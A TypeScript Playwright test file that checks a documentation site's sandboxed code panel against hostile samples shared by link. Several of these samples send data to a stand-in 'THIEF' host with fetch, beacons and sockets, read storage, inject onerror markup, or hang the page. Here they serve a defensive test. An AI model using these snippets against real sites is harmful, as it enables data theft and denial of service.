import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { browserArguments } from "@proofsheet/browser/find-browser";
import { chromium } from "../browsers/projects.ts";
import { plain } from "./site.ts";
import { test as base, expect, hydrate } from "./test.ts";
import { idOf, TryPanel } from "./try-panel.ts";

/** Whatever the sample does, the console may say that it was stopped; the host's own count decides. */
const test = base.extend<{ thief: Thief }>({
  expectedNoise: /^(?:console|uncaught|request to http:\/\/(?:127\.0\.0\.1|localhost|thief))/,
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern
  thief: async ({}, use) => {
    const thief = new Thief();
    await thief.start();
    await use(thief);
    await thief.stop();
  },
});

/** A host that counts everything that reaches it, connections without a request included. */
class Thief {
  #server: Server = createServer((_, response) => response.end());
  reached = 0;

  async start() {
    this.#server.on("connection", () => {
      this.reached += 1;
    });
    await new Promise<void>((resolve) => this.#server.listen(0, "127.0.0.1", resolve));
  }
  get origin() {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }
  stop() {
    this.#server.closeAllConnections();
    return new Promise((resolve) => this.#server.close(resolve));
  }
}

// As desktop Chromium is by default, and its headless shell is not: a sandboxed frame has a process.
test.use({
  launchOptions: { ...chromium.launchOptions, args: [...browserArguments, "--site-per-process"] },
});

interface Attack {
  code: string;
  /** What the panel says of it, if anything. */
  says?: RegExp;
}

/** What a stranger might put into a link, by what it tries; THIEF is a host of his. */
const attacks: Record<string, Record<string, Attack>> = {
  "what never ends": {
    "an endless loop": { code: "while (true);", says: /loop/i },
    "an endless loop that catches": {
      code: "for (;;) { try { for (;;); } catch {} }",
      says: /loop/i,
    },
    "an endless loop of awaits": { code: "while (true) await null;", says: /loop/i },
    "endless microtasks": {
      code: "const again = () => Promise.resolve().then(again); again();",
      says: /stopped answering/i,
    },
    "an expression that never ends": {
      code: 'const slow = new RegExp("^(a+)+$"); slow.test("a".repeat(60) + "b");',
      says: /stopped answering/i,
    },
  },
  "what floods": {
    "a flood of output": {
      code: 'for (let n = 0; n < 1e9; n++) console.log("x".repeat(100));',
      says: /far too much|loop/i,
    },
    "a flood of messages": {
      code: "setInterval(() => { for (let n = 0; n < 400; n++) console.warn(n); }, 0);",
      says: /far too much/i,
    },
    dialogs: {
      code: 'alert("a"); confirm("b"); prompt("c"); print();',
      says: /alert: a \(dialogs do not open here\)/,
    },
    "markup in what it prints": {
      code: 'console.log("<img src=THIEF onerror=alert(1)>"); const x = "<b>"; x; // → "<i>"',
      says: /<img src=/,
    },
  },
  "what leaves": {
    "leaving by location": { code: 'window.location = "THIEF/gone";' },
    "leaving by href": { code: 'location.href = "THIEF/gone";', says: /was stopped/ },
    "leaving at the top": {
      code: 'try { top.location = "THIEF/gone"; } catch (error) { console.log("no", error.name); }',
    },
    "leaving by a link": {
      code: 'const a = document.createElement("a"); a.href = "THIEF"; a.target = "_top"; document.body.append(a); a.click();',
    },
    "a form that is sent": {
      code: 'document.body.innerHTML = "<form action=THIEF target=_top><input name=a value=b></form>"; document.forms[0].submit();',
    },
    "a window": { code: 'open("THIEF"); window.open("THIEF", "_blank");', says: /was not opened/ },
    "a refresh and a base": {
      code: 'document.head.innerHTML = \'<base href="THIEF"><meta http-equiv="refresh" content="0;url=THIEF">\';',
    },
  },
  "what asks a stranger's host": {
    "a request": {
      code: 'fetch("THIEF/?" + document.title).catch((error) => console.log(error.message));',
      says: /Failed to fetch/,
    },
    "a request by a fresh window": {
      code: 'const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.fetch("THIEF").catch(() => console.log("refused"));',
      says: /refused|SecurityError/,
    },
    "pictures, styles, fonts and scripts": {
      code: 'document.body.innerHTML = \'<img src="THIEF/1"><link rel=stylesheet href="THIEF/2"><style>@font-face{font-family:x;src:url(THIEF/3)}b{font-family:x;background:url(THIEF/4)}</style><b>b</b><video src="THIEF/5"></video><object data="THIEF/6"></object><iframe src="THIEF/7"></iframe>\'; const s = document.createElement("script"); s.src = "THIEF/8"; document.head.append(s); import("THIEF/9").catch(() => {});',
    },
    "sockets, beacons and event streams": {
      code: 'navigator.sendBeacon("THIEF/1"); for (const make of [() => new WebSocket("THIEF".replace("http", "ws")), () => new EventSource("THIEF"), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] })]) try { make(); } catch (error) { console.log("no", error.name); }',
    },
  },
  "what reads the site": {
    "the storage of the site": {
      code: 'localStorage.slash = "stolen"; document.cookie = "a=b"; try { indexedDB.open("x"); } catch {} parent.postMessage("stolen", "*"); console.log(localStorage.slash);',
      says: /nothing is kept/,
    },
    "the page around it": {
      code: 'for (const read of [() => parent.document.title, () => top.document.title, () => parent.parent.localStorage.length, () => frameElement.id]) try { console.log("READ", read()); } catch (error) { console.log("no", error.name); }',
      says: /no SecurityError/,
    },
    "messages in the frame's own name": {
      code: 'parent.postMessage({ kind: "print", level: "log", text: "forged" }, "*"); top.postMessage({ kind: "key", key: "escape" }, "*");',
    },
  },
};

for (const [kind, group] of Object.entries(attacks))
  test(`attacks from a link: ${kind}`, async ({ page, thief, context }) => {
    const pages: string[] = [];
    page.on("framenavigated", (frame) => pages.push(frame.url()));
    page.on("dialog", (dialog) => {
      pages.push(`dialog ${dialog.message()}`);
      return dialog.dismiss();
    });
    await page.goto(plain.href);
    await hydrate(page);
    const stored = () => page.evaluate(() => [Object.keys(localStorage), document.cookie]);
    const before = await stored();
    const address = page.url();
    const panel = new TryPanel(page);
    for (const [name, { code, says }] of Object.entries(group))
      await test.step(name, async () => {
        const link = await linkTo(page, address, code.replaceAll("THIEF", thief.origin));
        await page.goto(link);
        await expect(panel.warning).toContainText("came with a link");
        await expect(panel.editor).toBeVisible();
        await expect(panel.log).toBeHidden();

        await panel.button("Run").click();
        if (says) await expect(panel.log).toContainText(says, { timeout: 30_000 });
        else await expect(panel.status).toHaveText(/Done|Stopped/);
        // What it sent would need a moment to arrive.
        await page.waitForTimeout(200);
        expect(await panel.log.allTextContents()).not.toContain("READ");
        expect(page.url()).toBe(link);
        await page.keyboard.press("Escape");
        await expect(panel.dialog).toBeHidden();
        await expect(page.locator("h1")).toBeVisible();
      });
    // By now whatever was on its way has arrived.
    await page.goto(plain.href);
    expect(thief.reached).toBe(0);
    expect(context.pages()).toHaveLength(1);
    expect(pages.filter((one) => one.startsWith(thief.origin) || one.startsWith("dialog"))).toEqual(
      [],
    );
    expect(await stored()).toEqual(before);
  });

test("a shared sample does nothing before Run is pressed", async ({ page, thief }) => {
  await page.goto(plain.href);
  const code = attacks["what asks a stranger's host"]?.["a request"]?.code ?? "";
  const link = await linkTo(page, page.url(), code.replaceAll("THIEF", thief.origin));
  await page.goto("about:blank");
  await page.goto(link);
  const panel = new TryPanel(page);
  await expect(panel.editor).toBeVisible();
  // As long as its run takes once it is asked for.
  await page.waitForTimeout(1000);
  await expect(panel.log).toBeHidden();
  expect(thief.reached).toBe(0);
  await panel.button("Run").click();
  await expect(panel.log).toContainText("Failed to fetch");
});

test("a sample cannot speak for the page to the frame of the next run", async ({ page }) => {
  await page.goto(plain.href);
  await hydrate(page);
  const script = '"window.__start = () => {}"';
  const code = `const script = new Blob([${script}], { type: "text/javascript" });
    setInterval(() => {
      for (let n = 0; n < parent.length; n++)
        if (parent[n] !== window) parent[n].postMessage(script, "*", [new MessageChannel().port1]);
    }, 1);
    1 + 1; // → 2`;
  await page.goto(await linkTo(page, page.url(), code));
  const panel = new TryPanel(page);
  await panel.button("Run").click();
  await expect(panel.checks).toHaveText(["Line 6 holds: 2"]);
  // The frame of the next run is made a moment after this one is done.
  await expect.poll(() => page.frames().length).toBe(4);
  await panel.button("Run").click();
  await expect(panel.checks).toHaveText(["Line 6 holds: 2"]);
  await expect(panel.status).toContainText("Done");
});

/** Makes a link as the panel does, by the page's own browser. */
async function linkTo(page: Page, address: string, code: string): Promise<string> {
  const fragment = await page.evaluate(
    async (text) => {
      const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"));
      const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
      const letters = Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");
      return btoa(letters).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
    },
    JSON.stringify([1, { "sample.js": code }]),
  );
  return `${address}#${idOf("Change a value")}~try=${fragment}`;
}
